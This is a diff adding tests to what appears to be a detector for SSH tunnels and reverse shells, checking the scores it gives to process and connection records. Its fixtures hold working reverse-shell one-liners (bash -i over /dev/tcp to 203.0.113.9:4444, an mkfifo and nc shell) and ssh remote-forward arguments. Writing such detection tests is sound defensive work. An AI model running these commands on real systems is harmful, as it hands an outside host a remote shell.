@@ -58,6 +58,14 @@ describe("a process that was asked for a way in", () => {
     expect(host.step(later(1), { processes: [aProcess(argv, { key: "4712:2", parent: "4711:1" })] })).toEqual([])
   })
 
+  it("is none in the probe that autossh sends itself, which has no other way in", () => {
+    const autossh = aProcess(["autossh", "-M", "20000", "-N", "-L", "1:db:1", "host"])
+    const probe = ["-L", "20000:127.0.0.1:20000", "-R", "20000:127.0.0.1:20001"]
+    const child = (words: readonly string[]) => aProcess(["ssh", ...words, "-L", "1:db:1", "host"], { key: "4712:2", parent: "4711:1" }) // prettier-ignore
+    expect(host.step(startUs, { processes: [autossh, child(probe)], connections: [anUpdate({ process: "4712:2" })] })).toEqual([]) // prettier-ignore
+    expect(host.step(later(1), { processes: [child([...probe, "-R", "2:localhost:22"])] })).toMatchObject([{ score: 0.55 }]) // prettier-ignore
+  })
+
   it("is another one in a child that asks for something else", () => {
     const other = aProcess(["ssh", "-R", "9090:localhost:90", "host"], { key: "4712:2", parent: "4711:1" })
     expect(host.step(startUs, { processes: [aProcess(tunnelArgv), other] })).toHaveLength(2)
@@ -94,6 +102,69 @@ describe("a process that was asked for a way in", () => {
     const claims = host.step(later(1), { connections: [anUpdate({ cookie: "02", ssh: sshClient })] })
     expect(claims.at(-1)?.cookie).toBe("02")
   })
+})
+
+describe("a script that was asked for a shell", () => {
+  const bash = aProcess(["bash", "-c", "sleep 1; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1; exec sleep 9"])
+  const child = (argv: readonly string[]) => aProcess(argv, { key: "4713:3", parent: "4711:1" })
+  const to = (address: string, port: number, process = "4711:1") =>
+    anUpdate({ process, remote: { address, port }, cookie: `${address}${port}${process}` })
+  const scores = (processes: readonly ProcessFacts[], update: ReturnType<typeof to>) => {
+    host.step(startUs, { processes })
+    return host.step(later(1), { connections: [update] }).map(({ score }) => score)
+  }
+
+  it.each([
+    ["where its words say", to("203.0.113.9", 4444)],
+    ["where its words say, from a shell that it started", to("203.0.113.9", 4444, "4713:3")],
+  ])("has connected once something leads %s", (_, update) => {
+    expect(scores([bash, child(["bash", "-i"])], update)).toEqual([0.55])
+  })
+
+  it.each([
+    ["elsewhere", to("198.51.100.7", 4444)],
+    ["to another port", to("203.0.113.9", 443)],
+    ["to the same place, from another program", to("203.0.113.9", 4444, "4713:3")],
+  ])("has not by a connection %s", (_, update) => {
+    expect(scores([bash, child(["curl", "http://203.0.113.9:4444"])], update)).toEqual([])
+  })
+
+  it("has by the program that its words give the connection to, wherever it leads", () => {
+    const script = aProcess(["sh", "-c", "mkfifo f; sh -i <f 2>&1 | nc $H $P >f"])
+    expect(scores([script, child(["nc", "203.0.113.9", "4444"])], to("203.0.113.9", 4444, "4713:3"))).toEqual([0.55])
+  })
+
+  it("has not by what the script does beside it", () => {
+    const script = aProcess(["sh", "-c", "mkfifo f; sh -i <f 2>&1 | nc $H $P >f"])
+    expect(scores([script, child(["curl", "http://203.0.113.9:4444"])], to("203.0.113.9", 4444, "4713:3"))).toEqual([])
+  })
+
+  it("is told by what it was when it runs another program by the time that it is seen to connect", () => {
+    host.step(startUs, { processes: [bash] })
+    const [claim] = host.step(later(1), { connections: [to("203.0.113.9", 4444)], processes: [] })
+    expect(claim?.summary).toContain("bash (pid 4711, uid 1000) on build-7 was asked for a shell")
+    const [ended] = host.step(later(2), { processes: [aProcess(["sleep", "9"])] })
+    expect(ended?.summary).toContain("bash (pid 4711, uid 1000) on build-7 was asked for a shell")
+  })
+})
+
+it("takes back that a command line is not known once it is", () => {
+  const words = ["ssh", "-o", "SendEnv=A"]
+  const [note] = host.step(startUs, {
+    processes: [aProcess(words, { argvTruncated: true })],
+    connections: [anUpdate()],
+  })
+  expect(note).toMatchObject({ score: 0.3 })
+  expect(note?.summary).toContain("has a command line of which the end was not read")
+  const claims = host.step(later(1), { processes: [aProcess([...words, "-R", "1:a:2", "host"])] })
+  expect(claims.map(({ status, score }) => [status, score])).toEqual([["active", 0.55], ["ended", 0.3]]) // prettier-ignore
+})
+
+it("counts a connection that was refused, of which the first record is the last", () => {
+  const refused = anUpdate({ established: false, reason: "closed", bytesSent: 0, bytesReceived: 0 })
+  const claims = host.step(startUs, { processes: [aProcess(tunnelArgv)], connections: [refused], exited: ["4711:1"] })
+  expect(claims.at(-1)).toMatchObject({ score: 0.55, status: "ended" })
+  expect(claims.at(-1)?.summary).toContain("it tried to connect to 203.0.113.9:443")
 })
 
 /** Processes with these words, each of a pid of its own, below one shell. */
